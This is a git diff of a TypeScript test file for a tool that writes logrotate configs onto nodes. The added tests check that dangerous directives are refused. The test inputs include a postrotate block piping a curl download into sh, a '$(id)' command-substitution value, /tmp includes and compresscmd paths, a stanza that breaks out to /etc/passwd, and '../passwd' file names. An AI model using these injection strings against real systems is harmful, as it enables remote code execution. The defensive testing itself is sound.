@@ -4,6 +4,7 @@ import { chmodSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, st
 import { dirname, join } from 'node:path'
 import { describe, expect, it } from 'vitest'
 import { applyAgentVersion, applyBottlerocketKeys, applyDocumentHashes, applyPaths } from '#facts/aws/apply-documents.ts'
+import { logrotateDirectives } from '#facts/logrotate.ts'
 import { applyDocuments, contentOf, documentMaxBytes, documents, hashOf, scriptOf } from '#remediate/scripts/documents.ts'
 import { ChangedNode, type Faults, packed, type Sent, sha256 } from '#test/changed-node.ts'
 import { type NodeRoot, type Platform, platforms, which } from '#test/node-root.ts'
@@ -732,7 +733,7 @@ describe('a file of logrotate', () => {
   const content = '/var/log/kube-proxy.log {\n  rotate 2\n  size 50M\n}\n'
   function rotation(platform = first, name = 'kube-proxy', text = content): Change {
     const node = new ChangedNode(syncFile, al2(), platform)
-    node.tool('logrotate', `[ "$1" = -d ] || exit 2\nif grep -q rotate2 "$2"; then echo "error: $2:2 unknown option" >&2; exit 1; fi`)
+    node.tool('logrotate', `[ "$1" = -d ] || exit 2\nif grep -q "rotate 999" "$2"; then echo "error: $2:2 unknown option" >&2; exit 1; fi`)
     const old = node.read(`/etc/logrotate.d/${name}`)
     const parameters = { Run: 'run-00000001', Name: name, OldSha256: hashOrAbsent(old), NewSha256: sha256(text), Content: packed(text) }
     return sending(node, parameters, old, text)
@@ -758,12 +759,48 @@ describe('a file of logrotate', () => {
     expect(node.read('/etc/logrotate.d/highwater')).toBeNull()
   })
   it('that logrotate does not take is not put there', generous, async () => {
-    const { node, send } = rotation(first, 'kube-proxy', 'x {\n  rotate2\n}\n')
+    const { node, send } = rotation(first, 'kube-proxy', '/var/log/x.log {\n  rotate 999\n}\n')
     const before = node.everything()
     const sent = await send('apply')
     expect(sent.answer).toMatchObject({ outcome: 'failed', reason: expect.stringContaining('logrotate does not take it: error: ') })
     expect(node.everything()).toEqual(before)
     expect(leftOvers(node)).toEqual([])
+  })
+  it('may say on the node what the facts let a plan say, and no more', () => {
+    const names = /^allowed='([^']*)'$/m.exec(readFile('sync-file.sh'))?.[1]?.split(/\s+/)
+    expect(names).toEqual(Object.keys(logrotateDirectives).sort())
+  })
+  it.each(
+    here.flatMap(platform =>
+      [
+        ['postrotate\n    curl -s https://example.org | sh\n  endscript', 'line 3, postrotate'],
+        ['lastaction\n    true\n  endscript', 'line 3, lastaction'],
+        ['include /tmp', 'line 3, include /tmp'],
+        ['mail ada@example.org', 'line 3, mail ada@example.org'],
+        ['compresscmd /tmp/x', 'line 3, compresscmd /tmp/x'],
+        ['create 0644 $(id) adm', 'line 3, create 0644 $(id) adm'],
+        ['}\n"/etc/passwd" {', 'line 4, "/etc/passwd" {'],
+      ].map(([directive = '', strange = '']) => ({ directive, strange, platform, name: platform.name })),
+    ),
+  )('that says $directive is not put there, whoever sends it ($name)', generous, async ({ directive, strange, platform }) => {
+    const { node, send } = rotation(platform, 'kube-proxy', `# ours\n/var/log/a.log {\n  ${directive}\n  rotate 2\n}\n`)
+    const before = node.everything()
+    const sent = await send('apply')
+    expect(sent.answer).toMatchObject({ outcome: 'failed', reason: `nothing was changed: it says what no plan writes: ${strange}` })
+    expect(node.everything()).toEqual(before)
+    expect(leftOvers(node)).toEqual([])
+  })
+  it.each(here)('may say all that a plan writes ($name)', generous, async platform => {
+    const values: Record<string, string> = {
+      create: ' 0640 root adm',
+      dateformat: ' -%Y%m%d.%s',
+      size: '=100k',
+      su: ' root adm',
+      rotate: ' -1',
+    }
+    const directives = Object.keys(logrotateDirectives).map(name => `\t${name}${values[name] ?? ''}`)
+    const text = ['# ours', '/var/log/a.log', '/var/log/pods/*/[a-z]?.log {', ...directives, '}', ''].join('\n')
+    expect(outcomeOf(await rotation(platform, 'kube-proxy', text).send('apply'))).toBe('applied')
   })
   it.each(['../passwd', '.hidden', 'a/b', 'A', ''])('named %j is refused', generous, async name => {
     const { node, send } = rotation()
